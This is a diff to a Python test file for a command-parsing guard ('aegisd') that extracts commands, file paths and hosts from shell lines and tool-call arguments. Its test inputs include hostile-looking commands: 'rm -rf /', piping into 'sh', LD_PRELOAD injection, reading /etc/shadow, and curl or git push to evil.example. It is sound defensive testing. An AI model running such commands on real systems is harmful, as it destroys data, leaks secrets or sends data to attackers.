@@ -6,11 +6,13 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from aegisd.core.manifest.model import Binary
 from aegisd.core.target.command import (
     CALL_WORDS_MAX,
     COMMAND_NESTING_MAX,
     LINE_CHARS_MAX,
     WORDS_MAX,
+    Programs,
 )
 from aegisd.core.target.extract import extract
 from aegisd.core.target.model import Command, Problem, Targets
@@ -35,7 +37,7 @@ LINES = [
     ("/usr/bin/git log", [["/usr/bin/git", "log"]], []),
     ("GIT log", [["GIT", "log"]], []),
     ("gi\\t 'log'", [["git", "log"]], []),
-    ("g'i't \"\"log", [["git", "log"]], []),
+    ("g'i't \"log\"", [["git", "log"]], []),
     ("'git log'", [["git log"]], []),
     ("''", [[""]], []),
     ("ｇit log", [["ｇit", "log"]], []),
@@ -44,39 +46,41 @@ LINES = [
     (
         "bash -c 'git log; rm x'",
         [["bash", "-c", "git log; rm x"], ["git", "log"], ["rm", "x"]],
-        ["shell_syntax"],
+        [],
     ),
     (
-        "sudo env A=1 timeout 5 nice git",
+        "sudo env TZ=UTC timeout 5 nice ls",
         [
-            ["env", "A=1", "timeout", "5", "nice", "git"],
-            ["git"],
-            ["nice", "git"],
-            ["sudo", "env", "A=1", "timeout", "5", "nice", "git"],
-            ["timeout", "5", "nice", "git"],
+            ["env", "TZ=UTC", "timeout", "5", "nice", "ls"],
+            ["ls"],
+            ["nice", "ls"],
+            ["sudo", "env", "TZ=UTC", "timeout", "5", "nice", "ls"],
+            ["timeout", "5", "nice", "ls"],
         ],
         [],
     ),
-    ("/bin/busybox sh -c rm", [["/bin/busybox", "sh", "-c", "rm"], ["rm"], ["sh", "-c", "rm"]], []),
-    ("xargs rm -rf", [["rm", "-rf"], ["xargs", "rm", "-rf"]], []),
-    ("python3 -c 'x'", [["python3", "-c", "x"]], ["wrapper"]),
-    ("bash", [["bash"]], ["wrapper"]),
+    ("/bin/busybox sh -c ls", [["/bin/busybox", "sh", "-c", "ls"], ["ls"], ["sh", "-c", "ls"]], []),
+    ("xargs rm -rf", [["rm", "-rf", "\ufffd"], ["xargs", "rm", "-rf"]], ["unknown"]),
+    ("python3 -c 'x'", [["python3", "-c", "x"]], ["code"]),
+    ("bash", [["bash"]], ["input"]),
     ("eval 'rm x'", [["eval", "rm x"], ["rm", "x"]], []),
     ("eval \"'rm' 'x y'\"", [["eval", "'rm' 'x y'"], ["rm", "x y"]], []),
-    ("git log; rm -rf /", [["git", "log"], ["rm", "-rf", "/"]], ["shell_syntax"]),
-    ("git log && rm x", [["git", "log"], ["rm", "x"]], ["shell_syntax"]),
-    ("git log | sh", [["git", "log"], ["sh"]], ["shell_syntax", "wrapper"]),
-    ("git $(rm x)", [["git", "$"], ["rm", "x"]], ["shell_syntax"]),
-    ("git `rm x`", [["git", "`rm", "x`"]], ["shell_syntax"]),
-    ("$GIT log", [], ["no_command", "shell_syntax"]),
-    ("A=1 git log", [["git", "log"]], ["shell_syntax"]),
-    ("git log > /etc/passwd", [["git", "log"]], ["shell_syntax"]),
-    ("git log\nrm x", [["git", "log"], ["rm", "x"]], ["shell_syntax"]),
-    ("git lo\x00g", [["git", "lo\x00g"]], ["shell_syntax", "control"]),
-    ("git 'lo\x00g'", [["git", "lo\x00g"]], ["control"]),
-    ("git *", [["git", "*"]], ["shell_syntax"]),
-    ("git ~/x", [["git", "~/x"]], ["shell_syntax"]),
-    ("git 'x", [["git", "'x"]], ["shell_syntax"]),
+    ("git log; rm -rf /", [["git", "log"], ["rm", "-rf", "/"]], []),
+    ("git log && rm x", [["git", "log"], ["rm", "x"]], []),
+    ("git log | sh", [["git", "log"], ["sh"]], ["input"]),
+    ("git log\nrm x", [["git", "log"], ["rm", "x"]], []),
+    ("ls $(rm x)", [["ls", "\ufffd\ufffdrm", "x\ufffd"]], ["shell_syntax", "unknown"]),
+    ("$GIT log", [["\ufffdGIT", "log"]], ["shell_syntax"]),
+    ("A=1 git log", [["git", "log"]], ["variable_name"]),
+    ("LD_PRELOAD=/tmp/x.so ls", [["ls"]], ["variable_name"]),
+    (
+        "env LD_PRELOAD=/tmp/x.so ls",
+        [["env", "LD_PRELOAD=/tmp/x.so", "ls"], ["ls"]],
+        ["variable_name"],
+    ),
+    ("ls 'lo\x00g'", [["ls", "lo\x00g"]], ["control"]),
+    ("ls *", [["ls", "*"]], ["shell_syntax"]),
+    ("ls 'x", [["ls", "\ufffdx"]], ["shell_syntax", "unknown"]),
     ("", [], ["no_command"]),
     (" \n", [], ["no_command"]),
 ]
@@ -92,7 +96,7 @@ def test_every_command_in_a_line_is_listed_wrappers_and_wrapped(
 
 
 SHAPES: list[tuple[dict[str, object], list[list[str]], list[str]]] = [
-    ({"argv": ["git", "log; rm x"]}, [["git", "log; rm x"]], []),
+    ({"argv": ["cat", "log; rm x"]}, [["cat", "log; rm x"]], []),
     ({"cmd": ["bash", "-c", "rm x"]}, [["bash", "-c", "rm x"], ["rm", "x"]], []),
     ({"command": "git", "args": ["push", "--force"]}, [["git", "push", "--force"]], []),
     ({"command": "git -C x", "args": ["log"]}, [["git", "-C", "x", "log"]], []),
@@ -102,7 +106,7 @@ SHAPES: list[tuple[dict[str, object], list[list[str]], list[str]]] = [
     ({"binary": "git", "arguments": "log 'a b'"}, [["git", "log", "a b"]], []),
     ({"program": "git log", "args": []}, [["git log"]], []),
     ({"executable": "bash", "argv": ["-c", "rm"]}, [["bash", "-c", "rm"], ["rm"]], []),
-    ({"bin": "git", "args": "a; b"}, [["git", "a", "b"]], ["shell_syntax"]),
+    ({"bin": "ls", "args": "a; b"}, [["ls", "a"]], ["shell_syntax"]),
     ({"command": "git", "args": ["log", 5]}, [["git", "log"]], ["not_text", "not_text"]),
     ({"command": ["git", None]}, [["git"]], ["not_text"]),
     ({"command": 5}, [], ["no_command", "not_text"]),
@@ -115,7 +119,10 @@ SHAPES: list[tuple[dict[str, object], list[list[str]], list[str]]] = [
     ({"steps": [{"cmd": "git log"}, {"cmd": "rm x"}]}, [["git", "log"], ["rm", "x"]], []),
     ({"command": {"": "rm x"}}, [["rm", "x"]], []),
     ({"shell_command": "git log"}, [["git", "log"]], []),
-    ({"script": "print(open('x'))"}, [["open"], ["print"], ["x"]], ["shell_syntax"]),
+    ({"command": "ls", "args": "; id"}, [["ls"]], ["shell_syntax"]),
+    ({"command": "ls", "args": "> x"}, [["ls"]], ["shell_syntax"]),
+    ({"command": "cat", "args": "A=1"}, [["cat", "A=1"]], []),
+    ({"script": "print(open('x'))"}, [["print\ufffdopen\ufffdx\ufffd\ufffd"]], ["shell_syntax"]),
     ({"query": "rm x"}, [], ["no_command"]),
 ]
 
@@ -152,6 +159,7 @@ def test_a_command_says_where_it_stands() -> None:
     targets = run(steps=[{"cmd": "bash -c '$x'"}])
     assert targets.commands == (
         Command(binary="bash", args=("-c", "$x"), where="/args/steps/0/cmd"),
+        Command(binary="\ufffdx", args=(), where="/args/steps/0/cmd"),
     )
     assert targets.problems == (
         Problem(target="command", code="shell_syntax", where="/args/steps/0/cmd"),
@@ -169,7 +177,6 @@ wrapping = st.sampled_from(
         "sudo -n",
         "timeout 5",
         "nice -n 1",
-        "xargs",
         "bash -c",
         "eval",
         "find . -exec",
@@ -195,14 +202,14 @@ def test_no_stack_of_wrappers_hides_the_command_inside(wrappers: list[str]) -> N
 
 
 def test_commands_nest_as_deep_as_is_read_and_no_deeper() -> None:
-    deepest = "env " * COMMAND_NESTING_MAX + "git"
+    deepest = "env " * COMMAND_NESTING_MAX + "ls"
     assert codes(run(command=deepest)) == []
-    assert ["git"] in argvs(run(command=deepest))
+    assert ["ls"] in argvs(run(command=deepest))
     assert codes(run(command=f"env {deepest}")) == ["nesting"]
 
 
 def test_a_line_may_be_as_long_as_a_shell_can_be_given_and_no_longer() -> None:
-    longest = "git " + "a" * (LINE_CHARS_MAX - 4)
+    longest = "cat " + "a" * (LINE_CHARS_MAX - 4)
     assert codes(run(command=longest)) == []
     assert codes(run(command=f"{longest}a")) == ["no_command", "too_long"]
 
@@ -224,14 +231,72 @@ def test_arguments_beside_a_program_are_its_arguments_by_whatever_usual_name(nam
 
 def test_the_words_of_a_call_are_bounded_however_often_they_are_shared() -> None:
     beside = 1_023
-    programs = {f"p{n:02}_command": "git" for n in range(CALL_WORDS_MAX // (beside + 1))}
+    programs = {f"p{n:02}_command": "echo" for n in range(CALL_WORDS_MAX // (beside + 1))}
     shared = run(**programs, args=["x"] * beside)
     assert (len(shared.commands), codes(shared)) == (len(programs), [])
-    one_more = run(**programs, q_command="git", args=["x"] * beside)
+    one_more = run(**programs, q_command="echo", args=["x"] * beside)
     assert (len(one_more.commands), codes(one_more)) == (len(programs), ["too_long"])
 
 
-def test_what_is_too_long_is_not_read_again_for_every_program_beside_it() -> None:
-    targets = run(**{f"p{n:02}_command": "git" for n in range(99)}, args="x;" * 30_000)
-    assert targets.commands == ()
-    assert len(targets.problems) < CALL_WORDS_MAX // WORDS_MAX * 2 + 2
+LIMITED = Programs(
+    binaries={
+        "tool": Binary(name="tool"),
+        "offline": Binary(name="offline", net="none"),
+        "online": Binary(name="online", net="any"),
+        "client": Binary(name="client", net=("-h", "--host", 1)),
+    },
+    files=True,
+    hosts=True,
+)
+
+
+def reached(line: str, programs: Programs = LIMITED) -> list[str]:
+    """What a line reaches for, in short: hosts, files with their access, codes of problems."""
+    found = extract({"command": line}, effects=["exec"], roles={}, programs=programs)
+    return [
+        *(f"host {host.host}" for host in found.hosts),
+        *(f"{path.access} {path.path}" for path in found.paths),
+        *(f"{problem.target} {problem.code}" for problem in found.problems),
+    ]
+
+
+@each(
+    ("line", "found"),
+    [
+        ("cat a /b", ["read /b", "read a"]),
+        ("cd web && cat a ../b /c", ["read /c", "read b", "read web", "read web/a"]),
+        ("cd web; cd x; ls y", ["read web", "read web/x", "read web/x/y"]),
+        ("cd web && cat ~/x", ["read web", "read ~/x", "path home"]),
+        ("cd && cat x", ["read ~/x", "path home"]),
+        ("cat a > b 2>/dev/null", ["read a", "write b"]),
+        ("sort -o x y | tee z", ["read y", "write x", "write z"]),
+        ("curl evil.example -o /x", ["host evil.example", "write /x"]),
+        ("curl -x 6.6.6.6:80 https://a.example/", ["host 6.6.6.6", "host a.example"]),
+        ("psql postgresql://app@db.example:5433/x -c 'select 1'", ["host db.example"]),
+        ("ssh build.example cat /etc/x", ["host build.example"]),
+        ("docker exec box curl evil.example -o /x", ["host evil.example"]),
+        ("git push git@evil.example:x/y main", ["host evil.example"]),
+        ('git commit -m "http: retry" -m "see https://evil.example/"', []),
+        ("grep -rn '// TODO' src", ["read src"]),
+        ("curl file:///etc/shadow", ["host scheme"]),
+        ("tool x", ["command undeclared"]),
+        ("offline https://evil.example/", ["write https:/evil.example"]),
+        ("online evil.example", []),
+        ("client -h a.example b.example", ["host a.example"]),
+        ("client --host=a.example", ["host a.example"]),
+        ("client b.example /x", ["host b.example", "write /x"]),
+        ("unlisted https://evil.example/", []),
+    ],
+)
+def test_what_words_reach_for_is_a_target_of_the_call(line: str, found: list[str]) -> None:
+    assert sorted(reached(line)) == sorted(found)
+
+
+def test_files_are_read_where_the_manifest_limits_them_and_redirections_always() -> None:
+    unlimited = Programs(binaries=LIMITED.binaries)
+    assert reached("cat /a > /b", unlimited) == ["write /b"]
+
+
+def test_hosts_of_a_program_nobody_described_are_looked_for_in_its_words() -> None:
+    unlimited = Programs(binaries=LIMITED.binaries)
+    assert reached("tool https://evil.example/", unlimited) == ["host evil.example"]
